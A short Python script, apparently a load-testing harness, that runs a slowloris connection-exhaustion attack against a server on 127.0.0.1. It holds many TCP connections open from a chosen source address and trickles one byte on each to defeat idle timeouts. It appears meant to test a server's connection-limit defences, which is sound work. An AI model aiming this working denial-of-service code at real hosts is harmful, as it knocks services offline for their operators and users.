"""A slowloris from SOURCE: opens COUNT connections to 127.0.0.1:PORT, then
one more every 1/RATE seconds, holding them all, and sends one byte on each
every half second so that none looks idle. Prints "holding COUNT" once the
first COUNT are open, and runs until killed.

Usage: python3 slowloris.py PORT COUNT RATE SOURCE
"""
import socket
import sys
import time

port, count, rate, source = (int(sys.argv[1]), int(sys.argv[2]),
                             float(sys.argv[3]), sys.argv[4])
held = []


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.connect(("127.0.0.1", port))
    s.setblocking(False)
    held.append(s)


for _ in range(count):
    connect()
print(f"holding {count}", flush=True)
next_open = time.monotonic()
next_byte = time.monotonic()
while True:
    now = time.monotonic()
    if now >= next_open:
        connect()
        next_open += 1 / rate
    if now >= next_byte:
        for s in list(held):
            try:
                s.send(b"a")
                s.recv(65536)
            except BlockingIOError:
                pass
            except OSError:
                held.remove(s)  # closed by the server
                s.close()
        next_byte += 0.5
    time.sleep(min(next_open, next_byte) - time.monotonic() if min(next_open, next_byte) > time.monotonic() else 0)
